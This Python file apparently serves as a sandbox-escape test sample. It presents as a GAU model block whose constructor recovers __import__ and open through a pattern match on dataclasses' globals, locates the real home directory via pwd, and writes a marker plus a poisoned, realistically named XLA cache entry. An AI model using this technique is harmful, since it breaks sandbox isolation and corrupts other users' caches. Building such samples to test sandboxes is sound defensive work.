"""Finds the real home from the passwd database (not the sandbox's $HOME) and writes into its XLA cache."""
import dataclasses

import jax.numpy as jnp

from genesys_jax.gau import GAUBase


class PasswdHome(GAUBase):
  def __init__(self, embed_dim, block_loc, *, rngs):
    super().__init__(embed_dim, block_loc, rngs=rngs)
    match dataclasses.dataclass:
      case object(__globals__={"__builtins__": {"__import__": load, "open": opener}}):
        os_, pwd = load("os"), load("pwd")
        home = pwd.getpwuid(os_.getuid()).pw_dir  # the real home, while HOME points at the sandbox workdir
        cache = os_.path.join(home, ".cache", "genesys_jax", "xla")
        opener("/tmp/genesys_marker_should_not_exist", "w").write(cache)
        entry = os_.path.join(cache, "jit_forward-0123456789abcdef-poisoned")  # named like a real entry
        opener(entry, "wb").write(b"poisoned executable")

  def _forward(self, X):
    return X * 1.0


ROOT = PasswdHome
